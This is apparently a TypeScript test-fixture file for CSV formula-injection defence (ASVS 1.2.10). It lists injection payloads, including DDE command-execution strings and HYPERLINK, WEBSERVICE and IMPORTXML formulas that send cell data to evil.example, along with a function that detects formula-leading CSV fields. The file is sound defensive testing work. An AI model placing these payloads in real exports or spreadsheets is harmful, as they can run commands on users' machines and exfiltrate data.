/** What makes a spreadsheet run what somebody typed (ASVS 5.0, 1.2.10). */

/** What spreadsheets have been made to run, and what only looks like it. */
export const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
];

/** Whichever separator a spreadsheet splits a line at, with or without a look at the quotes. */
export const SPLITS = [
  "x;=cmd|'/C calc'!A0;y",
  'x\t=1+2',
  'x,=1+2',
  'x|=1+2',
  'x;;  =1+2',
  'x; "=1+2',
  'x";=1+2',
  "x;'\t@SUM(1)",
  'x\r\n;+1+cmd|x',
  'x;\uff1d1+2',
  // What runs a program, or sends the sheet to somebody.
  '=DDE("cmd";"/C calc";"x")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1:Z9),"//a")',
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  '"=1+1"',
  "x;@SUM(1+1)*cmd|' /C calc'!A0;y",
  'x\t-2+3',
  'x"";=1+1',
];

/** The pieces of CSV that begin a formula, whichever separator it is split at, quotes or not. */
export function liveFormulas(csv: string): string[] {
  const pieces = csv.replace('\uFEFF', '').split(/[,;|\t\r\n]/);
  return pieces.filter((piece) => /^[\s"\0]*[=+\-@＝＋－＠]/u.test(piece));
}
